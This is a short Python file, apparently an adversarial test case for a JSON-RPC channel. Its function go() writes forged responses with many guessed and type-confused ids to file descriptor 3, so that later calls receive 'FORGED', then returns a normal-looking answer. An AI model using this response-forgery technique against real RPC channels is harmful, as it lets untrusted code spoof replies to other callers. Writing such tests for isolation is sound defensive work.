# attack: answer calls that were not made yet, so that the next caller gets the forgery
# success: a later call answers FORGED
import os


def go(input):
    if input == "second":
        return "true answer"
    for number in list(range(-2, 2)) + list(range(3, 40)) + [2**53, 2**63 - 1]:
        os.write(3, b'{"jsonrpc":"2.0","id":%d,"result":"FORGED"}\n' % number)
    for name in (b'"2"', b"null", b"2.0", b"[2]", b"true"):
        os.write(3, b'{"jsonrpc":"2.0","id":%s,"result":"FORGED"}\n' % name)
    return "true answer"
